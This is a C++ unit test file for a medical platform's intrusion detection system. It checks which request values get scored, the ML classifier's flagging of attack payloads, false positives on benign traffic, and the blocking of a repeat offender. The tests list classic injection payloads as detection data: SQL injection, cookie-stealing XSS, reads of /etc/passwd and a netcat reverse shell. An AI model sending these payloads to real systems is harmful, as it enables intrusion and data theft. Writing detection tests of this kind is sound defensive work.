// Payload scoring with the committed request model (models/ids): what is collected from a
// request, what the model flags on MedMesh's own request shapes (none of the UI's, the classic
// payloads), and how a score reaches the payloads detector.
#include "ids/payload_scoring.h"

#include <gtest/gtest.h>

#include <algorithm>
#include <cctype>
#include <fstream>
#include <iostream>
#include <map>
#include <memory>
#include <nlohmann/json.hpp>
#include <string>
#include <vector>

#include "attack/injection_payloads.h"
#include "ids/decision_table.h"
#include "ids/detection_engine.h"
#include "ids/ml/http_features.h"
#include "net/metrics.h"
#include "net/test_support.h"
#include "testing/fake_clock.h"
#include "testing/fake_random.h"
#include "testing/temp_dir.h"

namespace medmesh::ids {
namespace {

// A request built by hand that owns what its views point at.
struct OwnedRequest {
  std::string target;
  std::string content_type;
  std::string body;
  net::Request request;
};

// `target` is "/path?query" as sent (percent-encoded); `body` is sent as `content_type`.
std::unique_ptr<OwnedRequest> Build(net::Method method, std::string target, std::string body = {},
                                    std::string content_type = "application/json",
                                    std::string peer = "127.0.0.1") {
  auto r = std::make_unique<OwnedRequest>();
  r->target = std::move(target);
  r->content_type = std::move(content_type);
  r->body = std::move(body);
  net::Request& q = r->request;
  q.method = method;
  const std::string_view t = r->target;
  const std::size_t mark = t.find('?');
  q.path = t.substr(0, mark);
  if (mark != std::string_view::npos) {
    for (const auto& [k, v] : ml::SplitParams(t.substr(mark + 1))) {
      q.query.emplace_back(ml::PercentDecode(k, true), ml::PercentDecode(v, true));
    }
  }
  if (!r->body.empty()) {
    q.headers.emplace_back("Content-Type", r->content_type);
    q.body = AsBytes(r->body);
  }
  q.peer_address = std::move(peer);
  return r;
}

std::unique_ptr<OwnedRequest> Get(std::string target) {
  return Build(net::Method::kGet, std::move(target));
}
std::unique_ptr<OwnedRequest> PostJson(std::string target, std::string json) {
  return Build(net::Method::kPost, std::move(target), std::move(json));
}

// Responds nowhere (the test's async handler never answers).
struct NoTarget final : net::Responder::Target {
  void Complete(Result<net::Response>, bool) override {}
};

std::string UrlEncode(std::string_view text) {
  static constexpr char kHex[] = "0123456789ABCDEF";
  std::string out;
  for (unsigned char c : text) {
    if (std::isalnum(c) != 0 || c == '-' || c == '_' || c == '.' || c == '~') {
      out += static_cast<char>(c);
    } else {
      out += '%';
      out += kHex[c >> 4];
      out += kHex[c & 15];
    }
  }
  return out;
}

bool Contains(const std::vector<std::string>& values, std::string_view v) {
  return std::find(values.begin(), values.end(), v) != values.end();
}

// --- what is collected --------------------------------------------------------------------------

TEST(PayloadValuesTest, HeadValuesAreDecodedPathSegmentsAndQueryNamesAndValues) {
  auto r = Get("/api/v1/patients/p%27%20or%201%3D1/readings?from=2026-12-01&q=chest+pain");
  std::size_t skipped = 9;
  const auto values = HeadValues(r->request, {}, &skipped);
  EXPECT_EQ(skipped, 0u);
  EXPECT_TRUE(Contains(values, "api"));
  EXPECT_TRUE(Contains(values, "p' or 1=1"));
  EXPECT_TRUE(Contains(values, "readings"));
  EXPECT_TRUE(Contains(values, "from"));
  EXPECT_TRUE(Contains(values, "2026-12-01"));
  EXPECT_TRUE(Contains(values, "chest pain"));
}

TEST(PayloadValuesTest, JsonBodiesGiveKeysAndStringLeavesButNeverPasswords) {
  auto r =
      PostJson("/api/v1/x", R"j({"email":"a@b.c","password":"' or 1=1 --","n":5,"ok":true,"list":)j"
                            R"j(["one",{"new_password":"x<script>","text":"two"}],"three":null})j");
  const auto values = BodyValues(r->request, {});
  EXPECT_TRUE(Contains(values, "email"));
  EXPECT_TRUE(Contains(values, "a@b.c"));
  EXPECT_TRUE(Contains(values, "password"));
  EXPECT_FALSE(Contains(values, "' or 1=1 --"));
  EXPECT_FALSE(Contains(values, "x<script>"));
  EXPECT_TRUE(Contains(values, "one"));
  EXPECT_TRUE(Contains(values, "two"));
  EXPECT_TRUE(Contains(values, "three"));
  EXPECT_FALSE(Contains(values, "5"));
  // "+json" types are JSON too.
  auto fhir = Build(net::Method::kPost, "/fhir/r4/Patient", R"j({"name":"x"})j",
                    "application/fhir+json; charset=utf-8");
  EXPECT_TRUE(Contains(BodyValues(fhir->request, {}), "x"));
}

TEST(PayloadValuesTest, FormBodiesGiveDecodedNamesAndValuesButNeverPasswords) {
  auto r = Build(net::Method::kPost, "/login", "email=ann%40x.org&password=%27--&note=a+b%3Cc",
                 "application/x-www-form-urlencoded");
  const auto values = BodyValues(r->request, {});
  EXPECT_TRUE(Contains(values, "ann@x.org"));
  EXPECT_TRUE(Contains(values, "password"));
  EXPECT_FALSE(Contains(values, "'--"));
  EXPECT_TRUE(Contains(values, "a b<c"));
}

TEST(PayloadValuesTest, SealedBinaryAndUntypedBodiesAreNotScored) {
  for (const char* type : {"application/octet-stream", "text/plain", "image/png", ""}) {
    SCOPED_TRACE(type);
    auto r = Build(net::Method::kPost, "/api/v1/ingest", R"j({"q":"' or 1=1 --"})j", type);
    EXPECT_TRUE(BodyValues(r->request, {}).empty());
  }
  // A base64 member (a photo) is data, not text.
  auto photo = PostJson("/api/v1/accounts/patients",
                        R"({"photo":{"data":")" + std::string(4000, 'A') + "/9j+" + R"("}})");
  const auto values = BodyValues(photo->request, {});
  EXPECT_EQ(values.size(), 2u);  // the keys
}

TEST(PayloadValuesTest, LongValuesAreScoredInOverlappingWindows) {
  PayloadScoringOptions options;
  options.max_value_bytes = 100;
  // The payload straddles the first window's end.
  const std::string text = std::string(90, 'a') + "' or 1=1 --" + std::string(200, 'b');
  auto r = PostJson("/api/v1/x", R"({"t":")" + text + R"("})");
  const auto values = BodyValues(r->request, options);
  ASSERT_GE(values.size(), 4u);
  bool whole = false;
  for (const std::string& v : values) {
    EXPECT_LE(v.size(), 100u);
    whole = whole || v.find("' or 1=1 --") != std::string::npos;
  }
  EXPECT_TRUE(whole);
}

TEST(PayloadValuesTest, BoundsAreKeptAndWhatIsLeftOutIsCounted) {
  std::string target = "/a?";
  for (int i = 0; i < 100; ++i) target += "k" + std::to_string(i) + "=v&";
  auto r = Get(target);
  std::size_t skipped = 0;
  EXPECT_EQ(HeadValues(r->request, {}, &skipped).size(), 64u);
  EXPECT_GT(skipped, 0u);

  PayloadScoringOptions options;
  options.max_body_bytes = 32;
  auto big = PostJson("/a", R"({"first":"x","second":")" + std::string(100, 'y') + R"("})");
  const auto values = BodyValues(big->request, options, &skipped);
  EXPECT_EQ(skipped, 1u);
  EXPECT_TRUE(Contains(values, "x"));  // what came before the cut is still scored
  EXPECT_FALSE(Contains(values, std::string(100, 'y')));
}

TEST(PayloadValuesTest, MalformedAndDeeplyNestedJsonIsHandledWithoutHarm) {
  auto deep = PostJson("/a", std::string(200'000, '['));
  EXPECT_TRUE(BodyValues(deep->request, {.max_body_bytes = 300'000}).empty());
  auto broken = PostJson("/a", R"j({"a":"kept", "b": nonsense)j");
  EXPECT_TRUE(Contains(BodyValues(broken->request, {}), "kept"));
}

// --- the real model --------------------------------------------------------------------------

class ClassifierScorerTest : public ::testing::Test {
 protected:
  static void SetUpTestSuite() {
    auto classifier = ml::RequestClassifier::Load(MEDMESH_IDS_MODELS_DIR);
    ASSERT_TRUE(classifier) << classifier.error().ToString();
    scorer_ = new ClassifierPayloadScorer(std::move(*classifier), 16);
  }
  static void TearDownTestSuite() {
    delete scorer_;
    scorer_ = nullptr;
  }

  // The highest score of the request's head and body.
  static double Score(const net::Request& r) {
    double best = 0;
    for (const auto& values : {HeadValues(r, {}), BodyValues(r, {})}) {
      auto s = scorer_->Score(values);
      EXPECT_TRUE(s);
      if (s) best = std::max(best, *s);
    }
    return best;
  }

  static ClassifierPayloadScorer* scorer_;
};
ClassifierPayloadScorer* ClassifierScorerTest::scorer_ = nullptr;

TEST_F(ClassifierScorerTest, NamesItsModel) { EXPECT_EQ(scorer_->name(), "http-v2"); }

TEST_F(ClassifierScorerTest, TypicalRequestsOfEveryRouteFamilyAreNotFlagged) {
  std::vector<std::unique_ptr<OwnedRequest>> requests;
  // login (the password is never scored; the e-mail is)
  requests.push_back(PostJson("/api/v1/session",
                              R"j({"email":"ann.o'brien@example.org","password":"' or 1=1 --"})j"));
  // messages
  requests.push_back(PostJson(
      "/api/v1/trust/messages",
      R"j({"to":"peer-3c9d","text":"Hi! Did it get better? Mine's worse at night; the doctor said \"wait and see\" (for now)... I'll select a quieter room & rest <3"})j"));
  // symptoms
  requests.push_back(Build(
      net::Method::kPut, "/api/v1/trust/profile",
      R"j({"opted_in":true,"conditions":["I48"],"symptoms":["dizzy when standing up (esp. mornings)","chest pain < 5 min","can't sleep"],"consent":{"heart_rate":true}})j"));
  requests.push_back(PostJson(
      "/api/v1/console/devices/console-7/reports",
      R"j({"symptoms":["nausea & vomiting since 6 am"],"pulse_bpm":104,"note":"Wife says: \"he's been like this since Tuesday\"; 2/10 pain."})j"));
  // consent and a doctor's answer
  requests.push_back(PostJson(
      "/api/v1/consents", R"j({"doctor_id":"doc-4b1e9c","records":["watch-7f3a/rec-000142"]})j"));
  requests.push_back(PostJson(
      "/api/v1/consents/con-9a8b7c/answers",
      R"j({"diagnosis":"Paroxysmal AF (likely); rule out thyroid -- TSH next week.","medication":"Bisoprolol 2.5 mg once daily; stop if HR < 50.","prescription":{"drug":"Bisoprolol","dose":"2.5 mg","frequency":"1x/day","duration":"30 days"}})j"));
  // FHIR search parameters
  requests.push_back(
      Get("/fhir/r4/Observation?patient=psd-4f5e6d&code=8867-4&date=ge2026-12-01&_count=50"));
  requests.push_back(Get("/fhir/r4/Observation?subject=Patient/psd-4f5e6d&_sort=-date"));
  // trust
  requests.push_back(
      PostJson("/api/v1/trust/requests", R"j({"handle":"peer-3c9d","category":"heart_rate"})j"));
  // admin
  requests.push_back(
      Get("/api/v1/admin/audit?limit=50&account=ann.o%27brien%40example.org&"
          "event=record.read&from=1733443200000"));
  requests.push_back(PostJson(
      "/api/v1/admin/registrations/reg-7d2k/rejection",
      R"j({"reason":"Photo doesn't match the ID; please re-register (JPEG/PNG, < 2 MB)."})j"));
  // readings
  requests.push_back(Get("/api/v1/me/readings?kind=heart_rate&from=1733443200000"));
  for (const auto& r : requests) {
    SCOPED_TRACE(r->target + " " + r->body);
    EXPECT_LT(Score(r->request), kPayloadAttackScore);
  }
}

TEST_F(ClassifierScorerTest, ClassicPayloadsInQueriesAndJsonAreFlagged) {
  const std::vector<std::string> payloads = {
      "' OR '1'='1' --",
      "1' UNION SELECT username, password FROM users --",
      "1; DROP TABLE readings; --",
      "<script>alert(document.cookie)</script>",
      "\"><img src=x onerror=alert(1)>",
      "../../../../etc/passwd",
      "; cat /etc/passwd",
      "| nc -e /bin/sh 10.0.0.1 4444",
  };
  for (const std::string& p : payloads) {
    SCOPED_TRACE(p);
    auto query = Get("/api/v1/stats?q=" + UrlEncode(p));
    EXPECT_GE(Score(query->request), kPayloadAttackScore);
    nlohmann::json body = {{"email", p}};
    auto json = PostJson("/api/v1/session", body.dump());
    EXPECT_GE(Score(json->request), kPayloadAttackScore);
  }
}

// The red team's injection scenario (src/attack/scenarios.cc) sends its payloads
// (attack/injection_payloads.h), each in a query
// (GET /api/v1/stats?q=&sort=) and in a login body ({"email","password"}: the e-mail is scored).
// Each flagged request is one count towards the source's block (5).
TEST_F(ClassifierScorerTest, TheRedTeamsInjectionPayloadsAreFlagged) {
  std::size_t flagged = 0, tries = 0;
  std::vector<std::string> missed;
  for (const std::string_view payload : attack::kInjectionPayloads) {
    const std::string p(payload);
    auto query = Get("/api/v1/stats?q=" + UrlEncode(p) + "&sort=" + UrlEncode(p));
    auto login = PostJson("/api/v1/session", nlohmann::json{{"email", p}, {"password", p}}.dump());
    for (const auto* r : {query.get(), login.get()}) {
      ++tries;
      if (Score(r->request) >= kPayloadAttackScore) {
        ++flagged;
      } else {
        missed.push_back(p);
      }
    }
  }
  std::cout << "red-team injection: " << flagged << " of " << tries << " requests flagged; missed:";
  for (const std::string& m : missed) std::cout << " [" << m << "]";
  std::cout << "\n";
  // Every one, template injection and JNDI lookups included (ADR 0051).
  EXPECT_EQ(flagged, tries);
}

// The benign false-positive measurement (docs/ids.md): every request shape the UI sends
// (tests/data/ids/ui_requests.txt), and every benign free-text value we wrote
// (benign_freetext*.txt) sent as a message's text. Reports the rate; none may be flagged.
TEST_F(ClassifierScorerTest, BenignUiRequestsAndFreeTextAreNotFlagged) {
  const std::string dir = MEDMESH_IDS_TEST_DATA_DIR;
  std::ifstream ui(dir + "/ui_requests.txt");
  ASSERT_TRUE(ui);
  std::size_t requests = 0, gated = 0, flagged = 0;
  std::string line;
  const auto judge = [&](const net::Request& r, const std::string& what) {
    ++requests;
    const double s = Score(r);
    gated += s > 0 ? 1 : 0;
    if (s >= kPayloadAttackScore) {
      ++flagged;
      ADD_FAILURE() << "flagged (" << s << "): " << what;
    }
  };
  while (std::getline(ui, line)) {
    if (line.empty() || line[0] == '#') continue;
    const std::size_t sp1 = line.find(' ');
    const std::size_t sp2 = line.find(' ', sp1 + 1);
    const std::string method = line.substr(0, sp1);
    const std::string target = line.substr(sp1 + 1, sp2 - sp1 - 1);
    const std::string body = sp2 == std::string::npos ? "" : line.substr(sp2 + 1);
    auto m = net::ParseMethod(method);
    ASSERT_TRUE(m) << line;
    auto r = Build(*m, target, body);
    judge(r->request, line);
  }
  const std::size_t ui_requests = requests;
  EXPECT_GE(ui_requests, 100u);
  for (const char* file :
       {"benign_freetext.txt", "benign_freetext_holdout.txt", "benign_freetext_v2_holdout.txt",
        "benign_freetext_v3_holdout.txt", "benign_freetext_v4_braces.txt"}) {
    std::ifstream in(dir + "/" + file);
    ASSERT_TRUE(in) << file;
    while (std::getline(in, line)) {
      if (line.empty() || line[0] == '#') continue;
      auto r = PostJson("/api/v1/trust/messages",
                        nlohmann::json{{"to", "peer-3c9d"}, {"text", line}}.dump());
      judge(r->request, line);
    }
  }
  std::cout << "benign payload scoring: " << ui_requests << " UI requests + "
            << requests - ui_requests << " free-text messages, " << gated
            << " past the structure gate, " << flagged << " flagged (FPR "
            << 100.0 * static_cast<double>(flagged) / static_cast<double>(requests) << "%)\n";
  RecordProperty("benign_requests", static_cast<int>(requests));
  RecordProperty("benign_flagged", static_cast<int>(flagged));
  EXPECT_EQ(flagged, 0u);
}

// --- feeding the detector ------------------------------------------------------------------------

class PayloadScoringTest : public ::testing::Test {
 protected:
  void SetUp() override {
    auto table = DecisionTable::Open(dir_.File("decisions.db"), "node-1", clock_, random_);
    ASSERT_TRUE(table);
    table_ = std::move(*table);
    engine_ = std::make_unique<DetectionEngine>(*table_, DefaultDetectors());
  }
  std::optional<std::string> Metric(std::string_view name, std::map<std::string, std::string> l) {
    const net::testing::Exposition e = net::testing::ParseExposition(metrics_.Render());
    EXPECT_TRUE(e.errors.empty());
    return net::testing::FindSample(e, name, l);
  }

  testing::TempDir dir_;
  testing::FakeClock clock_;
  testing::DeterministicRandom random_{7};
  net::MetricsRegistry metrics_;
  std::unique_ptr<DecisionTable> table_;
  std::unique_ptr<DetectionEngine> engine_;
};

TEST_F(PayloadScoringTest, WithoutAModelScoringIsOffAndSaysSo) {
  auto scoring = PayloadScoring::Load(dir_.path() / "no-models-here", *engine_, clock_, &metrics_);
  EXPECT_FALSE(scoring->enabled());
  EXPECT_EQ(scoring->scorer_name(), "");
  EXPECT_EQ(Metric("medmesh_ids_payload_scorer_enabled", {{"scorer", "none"}}), "0");
  auto r = Get("/api/v1/stats?q=%27%20or%201%3D1%20--");
  EXPECT_FALSE(scoring->ScoreHead(r->request));
  EXPECT_TRUE(engine_->Alerts(10).empty());
}

TEST_F(PayloadScoringTest, RepeatedPayloadsFromOneSourceGetItBlockedAndOthersAreUntouched) {
  auto scoring = PayloadScoring::Load(MEDMESH_IDS_MODELS_DIR, *engine_, clock_, &metrics_);
  ASSERT_TRUE(scoring->enabled());
  EXPECT_EQ(Metric("medmesh_ids_payload_scorer_enabled", {{"scorer", "http-v2"}}), "1");
  // Benign traffic from another source: scored, never observed.
  for (int i = 0; i < 20; ++i) {
    auto r = Build(net::Method::kGet,
                   "/api/v1/me/readings?kind=heart_rate&from=17334432000" + std::to_string(i), {},
                   {}, "10.0.0.6");
    EXPECT_FALSE(scoring->ScoreHead(r->request).value_or(0) > 0);
  }
  // The attacker: four heads and a body; nothing is refused by scoring itself.
  for (int i = 0; i < 4; ++i) {
    auto r = Build(
        net::Method::kGet,
        "/api/v1/stats?q=1%27%20UNION%20SELECT%20token%20FROM%20sessions%20--" + std::to_string(i),
        {}, {}, "10.0.0.5");
    EXPECT_GE(scoring->ScoreHead(r->request).value_or(0), kPayloadAttackScore);
    EXPECT_FALSE(table_->Match("10.0.0.5"));
  }
  auto body = Build(net::Method::kPost, "/api/v1/session",
                    R"j({"email":"<script>alert(document.cookie)</script>"})j", "application/json",
                    "10.0.0.5");
  EXPECT_GE(scoring->ScoreBody(body->request).value_or(0), kPayloadAttackScore);
  ASSERT_FALSE(engine_->Alerts(10).empty());
  EXPECT_EQ(engine_->Alerts(10)[0].alert.detector, "payloads");
  const auto decision = table_->Match("10.0.0.5");
  ASSERT_TRUE(decision);
  EXPECT_EQ(decision->action, Action::kBlock);
  EXPECT_FALSE(table_->Match("10.0.0.6"));
  EXPECT_EQ(scoring->flagged(), 5u);
  EXPECT_EQ(Metric("medmesh_ids_payload_flagged_total", {{"part", "head"}}), "4");
  EXPECT_EQ(Metric("medmesh_ids_payload_flagged_total", {{"part", "body"}}), "1");
}

TEST_F(PayloadScoringTest, BodiesAreScoredAfterTheyAreReadAndBeforeTheHandler) {
  auto scoring = PayloadScoring::Load(MEDMESH_IDS_MODELS_DIR, *engine_, clock_, &metrics_);
  ASSERT_TRUE(scoring->enabled());
  net::Router router;
  std::uint64_t flagged_when_called = 99;
  router.Post("/api/v1/notes/{id}", [&](const net::Request&) -> Result<net::Response> {
    flagged_when_called = scoring->flagged();
    return net::Response::Json("{}");
  });
  router.AddAsync(net::Method::kPost, "/api/v1/later", [&](const net::Request&, net::Responder) {
    flagged_when_called = scoring->flagged();
  });
  net::Router wrapped = scoring->ScoreBodies(std::move(router));
  ASSERT_EQ(wrapped.routes().size(), 2u);

  auto r = PostJson("/api/v1/notes/n-1", R"j({"text":"1' or '1'='1' --"})j");
  auto match = wrapped.Find(net::Method::kPost, {"api", "v1", "notes", "n-1"});
  ASSERT_EQ(match.kind, net::RouteMatch::Kind::kFound);
  ASSERT_TRUE(match.route->handler(r->request));
  EXPECT_EQ(flagged_when_called, 1u);

  auto later = PostJson("/api/v1/later", R"j({"text":"<script>alert(1)</script>"})j");
  match = wrapped.Find(net::Method::kPost, {"api", "v1", "later"});
  ASSERT_EQ(match.kind, net::RouteMatch::Kind::kFound);
  ASSERT_TRUE(match.route->async_handler);
  match.route->async_handler(later->request, net::Responder(std::make_shared<NoTarget>()));
  EXPECT_EQ(flagged_when_called, 2u);

  // A benign body passes with nothing observed.
  auto benign =
      PostJson("/api/v1/notes/n-2", R"j({"text":"Chest pain since Monday; it's 3/10."})j");
  match = wrapped.Find(net::Method::kPost, {"api", "v1", "notes", "n-2"});
  ASSERT_TRUE(match.route->handler(benign->request));
  EXPECT_EQ(flagged_when_called, 2u);
  EXPECT_TRUE(engine_->Alerts(10).empty());  // two flagged parts are not five
}

}  // namespace
}  // namespace medmesh::ids
